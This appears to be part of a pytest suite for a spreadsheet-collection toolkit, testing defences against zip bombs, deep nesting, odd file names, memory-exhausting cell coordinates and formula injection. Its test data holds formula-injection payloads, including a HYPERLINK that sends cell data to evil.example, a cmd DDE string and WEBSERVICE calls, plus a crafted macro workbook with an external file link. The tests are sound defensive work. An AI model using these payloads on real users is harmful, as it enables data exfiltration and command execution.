                                                  + '<row><c r="XFD5"><v>1</v></c></row>')), "x.xlsx")
    assert [i.code for i in report.issues] == ["E104"]
    ok = _check(issued_ws, package(sheet_xml(header_row(1) + "<row><c><v>1</v></c></row>" * 50)), "x.xlsx")
    assert "E104" not in [i.code for i in ok.issues]


def test_nesting_limits(issued_ws, make_return):
    """Zips 6 deep stop at max_zip_depth; mails inside mails stop at MAX_NESTING."""
    drop(issued_ws, "深.zip", nested_zips(filled(make_return), 6), on_time())
    drop(issued_ws, "信.eml", mail_in_mail(MAX_NESTING + 3), on_time())
    result = collect(issued_ws)
    with Ledger(issued_ws.ledger_path) as ledger:
        rows = ledger.receipts()
        by_name = {r.name: r for r in rows}
        assert by_name["第4层.zip"].outcome == "无法读取"  # the one at depth 3
        assert [i.code for i in ledger.issues_of(by_name["第4层.zip"].id)] == ["E104"]
        assert "石龙镇.xlsx" not in by_name  # never unpacked, but archived inside its zip
        mails = [r for r in rows if r.name.endswith(".eml")]
        assert len(mails) == MAX_NESTING + 1
        deepest = mails[-1]
        assert deepest.outcome == "无法读取"
        assert "嵌套超过" in ledger.issues_of(deepest.id)[0].message
    assert result.inputs == 2


def test_inbox_names_that_no_file_system_likes(issued_ws, make_return):
    """GBK bytes in a name, a bidi override, a name of 240 bytes: archived under a safe name."""
    gbk = os.fsdecode(b"\xca\xaf\xc1\xfa\xd5\xf2.xlsx")  # 石龙镇 in GBK
    names = [gbk, "石龙\u202e镇.xlsx", "石" * 80 + ".xlsx", "😀" * 60 + ".xlsx"]
    for i, name in enumerate(names):
        drop(issued_ws, name, filled(make_return) + b"\0" * i, on_time())  # distinct bytes
    collect(issued_ws)
    with Ledger(issued_ws.ledger_path) as ledger:
        rows = ledger.receipts()
    assert len(rows) == 4 and not list(issued_ws.inbox.iterdir())
    assert {r.name for r in rows} >= {"石龙镇.xlsx"}
    for r in rows:
        assert len((issued_ws.root / r.archive_path).name.encode()) <= 200
        assert (issued_ws.root / r.archive_path).exists()


def test_oversized_inbox_file_is_archived_without_reading_it_whole(issued_ws, tmp_path):
    """A file over max_file_mb is hashed and copied in chunks, refused E104, never read whole."""
    big = issued_ws.inbox / "录像.xlsx"
    size = 400 * 1048576
    with open(big, "wb") as f:
        f.truncate(size)  # sparse: costs no disk until archived
    code, _out, err, _, peak = run_measured([sys.executable, "-m", "toolkit", "collect"], issued_ws.root)
    assert code == 1 and "Traceback" not in err
    assert peak < 200 * 1048576  # well under the file: never read whole
    with Ledger(issued_ws.ledger_path) as ledger:
        (row,) = ledger.receipts()
        assert row.outcome == "无法读取" and row.size == size
        assert ledger.issues_of(row.id)[0].code == "E104"
    assert (issued_ws.root / row.archive_path).stat().st_size == size
    assert not big.exists()


def test_a_fifo_in_the_inbox_does_not_hang_the_run(issued_ws, make_return):
    os.mkfifo(issued_ws.inbox / "管道.xlsx")
    drop(issued_ws, "石龙镇.xlsx", filled(make_return), on_time())
    result = collect(issued_ws)
    assert result.inputs == 1 and result.accepted == 1


def test_file_times_no_calendar_has(issued_ws, make_return):
    path = drop(issued_ws, "石龙镇.xlsx", filled(make_return))
    try:
        os.utime(path, (2**62, 2**62))
    except (OverflowError, OSError):
        pytest.skip("file system refuses the time stamp")
    result = collect(issued_ws)
    assert result.receipts == 1


# ---------------------------------------------------------------------------
# output safety: no formula, external link or macro ever reaches an output


INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
              "@SUM(A1:A9)", "＝1+1", '=WEBSERVICE("http://evil.example")']


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def assert_inert(path: Path) -> None:
    """No formula cell, external link, macro, or hyperlink relationship in a written workbook."""
    parts = _parts(path)
    for name, body in parts.items():
        assert not name.lower().endswith((".bin", ".vba")) and "externalLink" not in name, (path, name)
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in body and b"<f " not in body, (path, name)
            assert b"<hyperlink" not in body, (path, name)
        if name.endswith(".rels"):
            assert b"externalLink" not in body and b'TargetMode="External"' not in body, (path, name)
    wb = load_workbook(path)
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path, sheet.title, cell.coordinate, cell.value)


def test_formula_text_stays_text_in_every_output(issued_ws, make_return):
    from toolkit.actions.merge import merge

    answers = {"1_2": Answer(status="已完成", progress=100, work=INJECTIONS[0], problems=INJECTIONS[1],
                             next_plan=INJECTIONS[2], evidence=INJECTIONS[3])}
    for i, tid in enumerate(("4_3", "5_1", "5_2")):
        answers[tid] = Answer(status="序时推进", progress=50, work=INJECTIONS[4 + i])
    data = make_return("石龙镇", Filling(contact={"填报人": INJECTIONS[0], "联系电话": INJECTIONS[1]}), **answers)
    drop(issued_ws, "=HYPERLINK(1).xlsx", data, on_time())
    bad = make_return("虎门镇", **{"1_2": Answer(status="滞后", problems="", work=INJECTIONS[5])})
    drop(issued_ws, "+cmd.xlsx", bad, on_time())
    result = collect(issued_ws)
    assert result.accepted == 1 and result.returned == 1
    report = result.items[0].report
    assert {i.code for i in report.issues} >= {"W508"}
    merged = merge(issued_ws, "2022-06").path
    outputs = [merged, *[p for p in result.feedback if p.suffix == ".xlsx"]]
    assert len(outputs) >= 2
    for path in outputs:
        assert_inert(path)
    texts = {c.value for ws_ in load_workbook(merged).worksheets for row in ws_.iter_rows() for c in row}
    assert INJECTIONS[0] in texts and INJECTIONS[4] in texts  # kept, verbatim, as text


def test_formulas_links_and_macros_in_inputs_never_reach_outputs(issued_ws, make_return):
    """A return with a real formula cell, an external link part and a VBA project (.xlsm):
    read for its values, archived as received, never copied into feedback or 汇总."""
    from toolkit.actions.merge import merge

    data = filled(make_return, "虎门镇", **{"1_2": Answer(status="滞后", problems="", work="FORMULA")})

    def add_formula(xml: bytes) -> bytes:
        return re.sub(rb'<c r="J5"([^>]*)t="(?:s|inlineStr)"([^>]*)>.*?</c>',
                      rb'<c r="J5"\1t="str"\2><f>WEBSERVICE("http://evil.example/")&amp;[1]Sheet1!A1</f>'
                      rb"<v>=EVIL()</v></c>", xml, count=1, flags=re.S)

    data = with_sheet_xml(data, add_formula)
    src = zipfile.ZipFile(io.BytesIO(with_macros(data)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "xl/_rels/workbook.xml.rels":
                body = body.replace(b"</Relationships>", b'<Relationship Id="rIdX" Type="http://schemas.'
                                    b'openxmlformats.org/officeDocument/2006/relationships/externalLink" '
                                    b'Target="externalLinks/externalLink1.xml"/></Relationships>')
            z.writestr(info, body)
        z.writestr("xl/externalLinks/externalLink1.xml", '<externalLink xmlns="http://schemas.openxmlformats.org/'
                   'spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
                   'officeDocument/2006/relationships"/></externalLink>')
        z.writestr("xl/externalLinks/_rels/externalLink1.xml.rels",
                   '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                   'relationships/externalLinkPath" Target="file:///C:/secret.xlsx" TargetMode="External"/>'
                   "</Relationships>")
    hostile = out.getvalue()
    drop(issued_ws, "虎门镇.xlsm", hostile, on_time())
    drop(issued_ws, "石龙镇.xlsm", with_macros(filled(make_return)), on_time())
    result = collect(issued_ws)
    reports = {it.report.unit: it.report for top in result.items for it in top.walk() if it.report}
    assert "W106" in {i.code for i in reports["虎门镇"].issues}
    row = next(r for r in reports["虎门镇"].rows if r.task == "1.2")
    assert row.work == "=EVIL()"  # the cached value, as text; the formula is never evaluated
    assert reports["石龙镇"].outcome == "采纳"
    with Ledger(issued_ws.ledger_path) as ledger:
        archived = {r.name: issued_ws.root / r.archive_path for r in ledger.receipts()}
    assert archived["虎门镇.xlsm"].read_bytes() == hostile  # kept as received, for the record
    merged = merge(issued_ws, "2022-06").path
    feedback = [p for p in result.feedback if p.suffix == ".xlsx"]
    assert feedback and all(p.suffix == ".xlsx" for p in result.feedback if p.suffix != ".eml")
    for path in [merged, *feedback]:
        assert_inert(path)
        assert b"vbaProject" not in b"".join(_parts(path).values())


def test_unpack_allowance_is_shared_by_zips_inside_zips(issued_ws):
    """max_unpacked_mb holds for everything unpacked from one inbox file, not per zip:
    two inner zips of 120 MB each (ratio ~150:1, under max_ratio) make 240 MB > 200 MB."""
    unit = os.urandom(6000) + b"\0" * ((1 << 20) - 6000)
    times = 120
    crc = 0
    for _ in range(times):
        crc = zlib.crc32(unit, crc)
    payload = deflate_repeat(b"", unit, times, b"")
    inner = raw_zip([("数据.bin", payload, 8, len(unit) * times, crc)])
    drop(issued_ws, "套娃.zip", zip_bytes({"一.zip": inner, "二.zip": inner + b"\0"}), on_time())
    collect(issued_ws)
    with Ledger(issued_ws.ledger_path) as ledger:
        by_name = {r.name: r for r in ledger.receipts()}
        assert by_name["一.zip"].outcome == "已拆包" and by_name["数据.bin"].size == 120 << 20
        assert by_name["二.zip"].outcome == "无法读取"
        assert "解压后超过 200 MB" in ledger.issues_of(by_name["二.zip"].id)[0].message


def test_mail_with_too_many_parts(issued_ws):
    """Only max_mail_parts MIME parts of one mail are opened; the rest is reported, not dropped silently."""
    drop(issued_ws, "群发.eml", mail("附件很多", [(f"附件{i}.txt", b"x") for i in range(250)]), on_time())
    collect(issued_ws)
    with Ledger(issued_ws.ledger_path) as ledger:
        rows = ledger.receipts()
        top = next(r for r in rows if r.parent_id is None)
        assert top.outcome == "已拆包"
        assert len(rows) - 1 == issued_ws.limits.max_mail_parts - 2  # the multipart and the body are parts
        (issue,) = ledger.issues_of(top.id)
    assert issue.code == "E104" and "另有 52 个部分未处理" in issue.message


@pytest.mark.libreoffice
def test_xls_with_far_apart_values_is_refused_before_parsing(lo, issued_ws, tmp_path):
    """An .xls (OLE2/BIFF8) with values in A1 and IV65536: 6 KB that calamine would turn into
    16.7 million cells (over 1 GB). The BIFF cell records are scanned first; blank
    formatted cells (which calamine does not place) do not count."""
    from openpyxl import Workbook
    from openpyxl.styles import PatternFill

    made = {}
    for name, value in (("far", 2), ("blank", None)):
        wb = Workbook()
        wb.active["A1"] = 1
        wb.active["IV65536"] = value
        wb.active["IV65536"].fill = PatternFill("solid", fgColor="FF0000")
        wb.save(tmp_path / f"{name}.xlsx")
        made[name] = lo(tmp_path / f"{name}.xlsx", "xls", tmp_path).read_bytes()
    report = _check(issued_ws, made["far"], "far.xls")
    assert [i.code for i in report.issues] == ["E104"] and "65536 行 × 256 列" in report.issues[0].message
    assert [i.code for i in _check(issued_ws, made["blank"], "blank.xls").issues] == ["E105"]
    for cut in (600, 2000, len(made["far"]) - 100):  # damaged compound files: a reason, no crash
        assert _check(issued_ws, made["far"][:cut], "far.xls").outcome == "无法读取"


A1 = '<row r="1"><c r="A1"><v>1</v></c></row>'
FAR = '<row r="1048576">{}</row>'


@pytest.mark.parametrize("rows", [
    A1 + FAR.format('<c r="XFD0001048576"><v>2</v></c>'),  # leading zeros: calamine reads the digits
    A1 + FAR.format('<c r="XFD5296016384"><v>2</v></c>'),  # 2**32 + 1048576: a wrapping u32
    A1 + '<row r="1000"><c r="AAAAA1000"><v>2</v></c></row>',  # five letters: column 8.4 million
    '<row r="1"><c r="XFD1"><v>1</v></c></row><row r="0001048576"><c><v>2</v></c></row>',
    A1 + FAR.format('<c s="0" t="n" r="XFD1048576" r="A1"><v>2</v></c>'),  # get_attrs! stops at three
    A1 + FAR.format('<c r="XFD1048576" foo=" r=\'A1\'"><v>2</v></c>'),  # r= inside another value
    A1 + FAR.format('<c r="XFD1048576"\x0br="A1"><v>2</v></c>'),  # \x0b is no separator to calamine
    A1 + FAR.format('<c foo=">" r="XFD1048576"><v>2</v></c>'),  # > inside quotes ends no tag
    A1 + FAR.format('<x/:c r="XFD1048576"><v>2</v></x/:c>'),  # a prefix with a slash
    A1 + FAR.format(f'<c foo="{"x" * 5000}" r="XFD1048576"><v>2</v></c>'),  # a tag longer than 4 KB
    '<row r="1"><c r="XFD1"><v>1</v></c></row>' + "<x></row>" * 110_000 + "<row><c><v>2</v></c></row>",
    '<row r="1"><c r="XFD1"><v>1</v></c></row><c><v>2</v></c>'
    '<row r="1000000"><c r="XFD1000000"><v>3</v></c></row>',  # a cell after </row>: the next row
    A1 + FAR.format('<c r="XFD1" t="inlineStr"><is><t>x</t><row r="1"/></is></c><c><v>2</v></c>'),
], ids=["zeros", "u32", "letters", "row-zeros", "three-attrs", "r-in-value", "vtab", "quoted-gt", "slash-prefix",
        "long-tag", "end-rows", "after-row", "row-in-text"])
def test_guard_reads_a_sheet_as_calamine_does(rows):
    """Shapes a helper found by probing calamine 0.37 against the guard: each passed it, and
    calamine then tried to allocate hundreds of gigabytes and aborted the process. The guard
    alone is asked here (calamine is never called)."""
    from toolkit.spreadsheet import ReadFailure, guard_zip

    data = package(sheet_xml(rows))
    with pytest.raises(ReadFailure) as refused:
        guard_zip(zipfile.ZipFile(io.BytesIO(data)), DEFAULT_LIMITS, "xlsx", data)
    assert refused.value.code in ("E101", "E104")


CELL = '<table:table-cell {} office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'


@pytest.mark.parametrize("row", [
    '<table:table-row table:number-rows-repeated="001048576">'
    + CELL.format('table:number-columns-repeated="0000016384"') + "</table:table-row>",  # leading zeros
    '<table:table-row table:number-rows-repeated="1048576">'
    + CELL.format('foo=">" table:number-columns-repeated="16384"') + "</table:table-row>",  # > in quotes
    '<table:table-row table:number-rows-repeated="1048576">'
    + CELL.format(f'foo="{"x" * 5000}" table:number-columns-repeated="16384"') + "</table:table-row>",
], ids=["zeros", "quoted-gt", "long-tag"])
def test_ods_guard_counts_repeats_however_they_are_written(row):
    from toolkit.spreadsheet import ReadFailure, guard_zip

    data = ods_package(row)
    with pytest.raises(ReadFailure) as refused:
        guard_zip(zipfile.ZipFile(io.BytesIO(data)), DEFAULT_LIMITS, "ods", data)
    assert refused.value.code == "E104"


def test_a_remembered_part_vouches_only_for_its_own_bytes(make_return):
    """Parts without a cell (theme, styles, relationships) are scanned once and remembered by
    their stored bytes. The memory never lets another part through: the same name with other
    bytes (a far cell hidden as the theme) is scanned and refused, and remembered parts still
    count towards the unpacked limit."""
    import dataclasses

    from toolkit import spreadsheet
    from toolkit.spreadsheet import ReadFailure, guard_zip

    def guard(data: bytes, limits=DEFAULT_LIMITS) -> None:
        guard_zip(zipfile.ZipFile(io.BytesIO(data)), limits, "xlsx", data)

    spreadsheet._PLAIN_PARTS.clear()
    valid = filled(make_return)
    guard(valid)
    remembered = len(spreadsheet._PLAIN_PARTS)
    parts = zipfile.ZipFile(io.BytesIO(valid)).infolist()
    assert 0 < remembered < len(parts)  # the sheets hold cells, the shared strings si: never remembered
    guard(valid)  # from memory
    assert len(spreadsheet._PLAIN_PARTS) == remembered

    # a far cell stored under the valid return's theme name: other bytes, scanned, refused
    theme = next(i.filename for i in parts if i.filename.startswith("xl/theme/"))
    with pytest.raises(ReadFailure) as refused:
        guard(hidden_sheet_xlsx(theme))
    assert refused.value.code == "E104"

    # the unpacked limit counts remembered parts: a padding part that fits beside the
    # sheets alone, but not beside the remembered parts as well, is refused
    unpacked = sum(i.file_size for i in parts)
    plain = sum(length for _, length, _ in spreadsheet._PLAIN_PARTS.values())
    assert plain > 10
    padded = rewrite_zip(valid, add={"xl/pad.xml": b" " * ((1 << 20) - unpacked + 10)})
    tight = dataclasses.replace(DEFAULT_LIMITS, max_unpacked_mb=1)
    with pytest.raises(ReadFailure) as refused:
        guard(padded, tight)
    assert refused.value.code == "E104"
    guard(padded)  # within the default limit


def test_a_remembered_directory_entry_vouches_for_nothing() -> None:
    """Remembered parts are looked up by what the zip directory says of a part (sizes, CRC-32),
    which the sender writes: an entry matching a remembered one, with other stored bytes (a
    far cell), is scanned and refused all the same (QA340)."""
    from toolkit import spreadsheet
    from toolkit.spreadsheet import ReadFailure, guard_zip

    hostile = hidden_sheet_xlsx("xl/theme/theme1.xml")
    z = zipfile.ZipFile(io.BytesIO(hostile))
    info = z.getinfo("xl/theme/theme1.xml")
    key = ("xlsx", info.compress_type, info.file_size, info.compress_size, info.CRC)
    spreadsheet._PLAIN_PARTS.clear()
    try:
        # as if a harmless theme with this very directory entry had been scanned before
        spreadsheet._PLAIN_PARTS[key] = (b"x" * info.compress_size, info.file_size, 0)
        with pytest.raises(ReadFailure) as refused:
            guard_zip(z, DEFAULT_LIMITS, "xlsx", hostile)
        assert refused.value.code == "E104"
    finally:
        spreadsheet._PLAIN_PARTS.clear()
